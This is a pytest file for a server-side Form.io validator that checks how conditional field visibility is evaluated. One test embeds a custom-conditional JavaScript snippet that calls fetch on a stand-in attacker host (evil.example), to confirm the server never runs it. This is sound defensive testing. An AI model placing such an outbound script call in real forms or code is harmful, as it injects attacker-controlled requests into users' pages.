"""Conditional visibility as formio.js evaluates it, on the server."""

import pytest

from g2p_portal_forms.formio_core import check_schema, validate_submission
from g2p_portal_forms.formio_core.conditions import js_string

from .conftest import component, form

YES_NO = [{"label": "Yes", "value": "yes"}, {"label": "No", "value": "no"}]


def shown(schema, data, key="target"):
    """Is ``key`` kept? (every target below is required, so hidden = absent)."""
    result = validate_submission(schema, data)
    return key in result.cleaned_data or key in result.codes()


def target(conditional, **settings):
    return component(
        "textfield",
        "target",
        validate={"required": True},
        conditional=conditional,
        **settings,
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, "null"),
        (True, "true"),
        (False, "false"),
        (1, "1"),
        (1.0, "1"),
        (1.5, "1.5"),
        ("x", "x"),
        ([1, None, "a"], "1,,a"),
        ({"a": 1}, "[object Object]"),
    ],
)
def test_js_string(value, expected):
    assert js_string(value) == expected


@pytest.mark.parametrize(
    ("show", "answer", "visible"),
    [
        (True, "yes", True),
        (True, "no", False),
        ("true", "yes", True),  # the builder may store strings
        (False, "yes", False),
        ("false", "no", True),
        (True, None, False),
    ],
)
def test_legacy_condition(show, answer, visible):
    schema = form(
        component("radio", "q", values=YES_NO),
        target({"show": show, "when": "q", "eq": "yes"}),
    )
    data = {} if answer is None else {"q": answer}
    assert shown(schema, data) is visible


def test_legacy_condition_compares_as_javascript_strings():
    schema = form(
        component("number", "n"),
        target({"show": True, "when": "n", "eq": "3"}),
    )
    assert shown(schema, {"n": 3.0})
    assert not shown(schema, {"n": 4})


def test_legacy_condition_on_selectboxes_and_multiple_select():
    boxes = component(
        "selectboxes",
        "b",
        values=[{"label": "A", "value": "a"}, {"label": "B", "value": "b"}],
    )
    schema = form(boxes, target({"show": True, "when": "b", "eq": "a"}))
    assert shown(schema, {"b": {"a": True, "b": False}})
    assert not shown(schema, {"b": {"a": False, "b": True}})
    select = component(
        "select", "s", multiple=True, data={"values": boxes["values"]}, dataSrc="values"
    )
    schema = form(select, target({"show": True, "when": "s", "eq": "b"}))
    assert shown(schema, {"s": ["a", "b"]})
    assert not shown(schema, {"s": ["a"]})


def test_empty_conditional_as_the_builder_writes_it():
    for conditional in (
        {"show": None, "when": None, "eq": ""},
        {"show": "", "when": None, "eq": "", "json": ""},
        {},
        None,
    ):
        assert shown(form(target(conditional)), {})


def test_json_logic_on_data():
    logic = {">": [{"var": "data.income"}, 1000]}
    schema = form(component("number", "income"), target({"json": logic}))
    assert shown(schema, {"income": 1500})
    assert not shown(schema, {"income": 500})
    assert not shown(schema, {})


def test_json_logic_sees_cleaned_values():
    """A number submitted as text is compared as the number it cleans to."""
    logic = {"===": [{"var": "data.income"}, 1500]}
    schema = form(component("number", "income"), target({"json": logic}))
    assert shown(schema, {"income": "1500"})


def test_json_logic_that_fails_shows_the_component():
    """formio.js shows a component whose JSONLogic throws (onError = true)."""
    schema = form(target({"json": {"unknown_operator": [1]}}))
    assert shown(schema, {})
    problems = check_schema(schema)
    assert [p.code for p in problems] == ["jsonlogic.operator"]


def test_json_logic_log_operator_is_not_available(capsys):
    schema = form(target({"json": {"log": "leak"}}))
    assert shown(schema, {})
    assert capsys.readouterr().out == ""


def test_new_style_conditions():
    conditional = {
        "show": True,
        "conjunction": "all",
        "conditions": [
            {"component": "age", "operator": "greaterThanOrEqual", "value": 18},
            {"component": "name", "operator": "isNotEmpty"},
        ],
    }
    schema = form(
        component("number", "age"), component("textfield", "name"), target(conditional)
    )
    assert shown(schema, {"age": 18, "name": "Ama"})
    assert not shown(schema, {"age": 17, "name": "Ama"})
    assert not shown(schema, {"age": 30})
    conditional["conjunction"] = "any"
    assert shown(schema, {"age": 30})
    conditional["show"] = False
    assert not shown(schema, {"age": 30})


@pytest.mark.parametrize(
    ("operator", "compared", "value", "expected"),
    [
        ("isEqual", "a", "a", True),
        ("isNotEqual", "a", "a", False),
        ("isEmpty", None, "", True),
        ("includes", "b", "abc", True),
        ("notIncludes", "z", "abc", True),
        ("startsWith", "ab", "abc", True),
        ("endsWith", "bc", "abc", True),
        ("lessThan", 5, "4", True),
        ("lessThanOrEqual", "x", "4", False),
    ],
)
def test_new_style_operators(operator, compared, value, expected):
    conditional = {
        "show": True,
        "conditions": [{"component": "q", "operator": operator, "value": compared}],
    }
    schema = form(component("textfield", "q"), target(conditional))
    assert shown(schema, {"q": value}) is expected


def test_unsupported_new_style_operator_shows_and_is_reported():
    conditional = {
        "show": False,
        "conditions": [{"component": "q", "operator": "dateLessThan"}],
    }
    schema = form(component("textfield", "q"), target(conditional))
    assert shown(schema, {"q": "x"})
    assert [p.code for p in check_schema(schema)] == ["conditional.operator"]


def test_custom_conditional_is_never_run():
    schema = form(
        component("radio", "q", values=YES_NO),
        target(
            {"show": True, "when": "q", "eq": "yes"},
            customConditional="show = false; fetch('https://evil.example')",
        ),
    )
    assert shown(schema, {"q": "no"})  # JavaScript wins in Form.io; we show
    assert [p.code for p in check_schema(schema)] == ["js.custom_conditional"]


def test_hidden_value_is_dropped_and_not_seen_by_later_conditions():
    schema = form(
        component("radio", "q", values=YES_NO),
        component(
            "textfield", "middle", conditional={"show": True, "when": "q", "eq": "yes"}
        ),
        target({"show": True, "when": "middle", "eq": "open"}),
    )
    result = validate_submission(schema, {"q": "no", "middle": "open"})
    assert result.cleaned_data == {"q": "no"}
    assert result.is_valid


def test_clear_on_hide_false_keeps_the_value_but_not_required():
    schema = form(
        component("radio", "q", values=YES_NO),
        target({"show": True, "when": "q", "eq": "yes"}, clearOnHide=False),
    )
    assert validate_submission(schema, {"q": "no"}).cleaned_data == {
        "q": "no",
        "target": None,
    }
    result = validate_submission(schema, {"q": "no", "target": "kept"})
    assert result.cleaned_data["target"] == "kept"


def test_hidden_property_keeps_value_and_skips_required():
    schema = form(target(None, hidden=True))
    assert validate_submission(schema, {}).is_valid
    assert validate_submission(schema, {"target": "x"}).cleaned_data == {"target": "x"}


def test_hidden_layout_hides_its_children():
    panel = {
        "type": "panel",
        "key": "p",
        "input": False,
        "conditional": {"show": True, "when": "q", "eq": "yes"},
        "components": [target(None)],
    }
    schema = form(component("radio", "q", values=YES_NO), panel)
    assert not shown(schema, {"q": "no", "target": "dropped"})
    assert shown(schema, {"q": "yes"})


def test_conditions_in_grid_rows_are_row_relative():
    grid = component(
        "datagrid",
        "rows",
        components=[
            component("radio", "q", values=YES_NO),
            target({"show": True, "when": "q", "eq": "yes"}),
            component(
                "textfield",
                "viaJson",
                validate={"required": True},
                conditional={"json": {"==": [{"var": "row.q"}, "yes"]}},
            ),
        ],
    )
    result = validate_submission(form(grid), {"rows": [{"q": "yes"}, {"q": "no"}]})
    assert result.codes() == {
        "rows[0].target": ["required"],
        "rows[0].viaJson": ["required"],
    }


def test_row_condition_prefers_the_row_over_a_top_level_key():
    grid = component(
        "datagrid",
        "rows",
        components=[
            component("textfield", "q"),
            target({"show": True, "when": "q", "eq": "row"}),
        ],
    )
    schema = form(component("textfield", "q"), grid)
    result = validate_submission(schema, {"q": "row", "rows": [{"q": "other"}]})
    assert result.is_valid
    assert check_schema(schema) == []


def test_row_condition_may_read_the_form_data():
    grid = component(
        "datagrid",
        "rows",
        components=[target({"show": True, "when": "top", "eq": "on"})],
    )
    schema = form(component("textfield", "top"), grid)
    result = validate_submission(schema, {"top": "on", "rows": [{}]})
    assert result.codes() == {"rows[0].target": ["required"]}


def test_condition_on_a_key_inside_a_container():
    box = component("container", "box", components=[component("textfield", "q")])
    schema = form(box, target({"show": True, "when": "box.q", "eq": "yes"}))
    assert shown(schema, {"box": {"q": "yes"}})
    schema = form(box, target({"show": True, "when": "q", "eq": "yes"}))
    assert shown(schema, {"box": {"q": "yes"}})


def test_condition_problems_reported():
    grid = component("datagrid", "rows", components=[component("textfield", "inRow")])
    box_a = component("container", "a", components=[component("textfield", "dup")])
    box_b = component("container", "b", components=[component("textfield", "dup")])
    schema = form(
        grid,
        box_a,
        box_b,
        component("textfield", "t1", conditional={"when": "nowhere", "eq": "x"}),
        component("textfield", "t2", conditional={"when": "inRow", "eq": "x"}),
        component("textfield", "t3", conditional={"when": "dup", "eq": "x"}),
    )
    assert [(p.path, p.code) for p in check_schema(schema)] == [
        ("t1", "conditional.unknown_key"),
        ("t2", "conditional.grid_target"),
        ("t3", "conditional.ambiguous"),
    ]
    # an unresolved reference reads as "" (Form.io's value for a missing key)
    cleaned = validate_submission(schema, {}).cleaned_data
    assert "t1" not in cleaned
    schema["components"][3]["conditional"]["eq"] = ""
    assert validate_submission(schema, {}).cleaned_data["t1"] is None
